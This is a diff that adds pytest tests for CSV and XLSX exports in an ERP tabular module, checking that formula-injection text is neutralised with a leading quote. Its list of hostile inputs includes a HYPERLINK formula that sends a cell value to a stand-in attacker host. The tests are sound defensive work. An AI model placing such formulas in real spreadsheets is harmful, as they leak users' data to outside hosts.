@@ -1,9 +1,11 @@
+import csv
+import datetime
 import io
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from erpteam.tabular import TableError, read_table, table_bytes
+from erpteam.tabular import TableError, inert, read_table, table_bytes
 
 
 def xlsx(rows) -> bytes:
@@ -69,3 +71,51 @@ def test_exports_round_trip_in_both_formats():
     ]
     sheet = load_workbook(io.BytesIO(table_bytes(header=["Name", "Count"], rows=rows, file_format="xlsx"))).active
     assert [list(r) for r in sheet.iter_rows(values_only=True)] == [["Name", "Count"], ["李伟", 3], ["Chen Mei", None]]
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B5,"Open details")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_inert_prefixes_a_quote_to_text_a_spreadsheet_would_run(text):
+    assert inert(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["Li Na", "", "'quoted", "a=b", "1+1", "李伟"])
+def test_inert_leaves_other_text_alone(text):
+    assert inert(text) == text
+
+
+def test_the_csv_writes_text_inertly_and_numbers_as_they_are():
+    data = table_bytes(header=["=title", "n"], rows=[[text, -5] for text in HOSTILE], file_format="csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[0] == ["'=title", "n"]
+    assert rows[1:] == [["'" + text, "-5"] for text in HOSTILE]
+
+
+def test_the_xlsx_writes_text_as_strings_never_formulas_and_keeps_numbers_and_dates_typed():
+    day = datetime.date(2026, 12, 8)
+    data = table_bytes(header=["=title", "n", "day"], rows=[[text, -5, day] for text in HOSTILE], file_format="xlsx")
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert "f" not in {cell.data_type for cell in cells}
+    assert [(c.value, c.data_type) for c in next(sheet.iter_rows())] == [("'=title", "s"), ("n", "s"), ("day", "s")]
+    for row, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
+        # XML reads a carriage return back as a line feed.
+        assert (row[0].value, row[0].data_type) == ("'" + text.replace("\r", "\n"), "s")
+        assert (row[1].value, row[1].data_type) == (-5, "n")
+        assert row[2].is_date
+        assert row[2].value.date() == day
+
+
+def test_the_xlsx_leaves_out_characters_a_workbook_cannot_hold():
+    data = table_bytes(header=["title"], rows=[["bell\x07 here"]], file_format="xlsx")
+    assert load_workbook(io.BytesIO(data)).active["A2"].value == "bell here"
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_reading_an_export_back_drops_the_quote_the_export_added(file_format):
+    names = ["-Li", "+86 Wang", "=Chen", "@Zhao", "'Connor", "O'Brien", "Li Na"]
+    data = table_bytes(header=["name"], rows=[[name] for name in names], file_format=file_format)
+    table = read_table(data, filename=f"r.{file_format}")
+    assert [cells["name"] for _row, cells in table.rows] == names
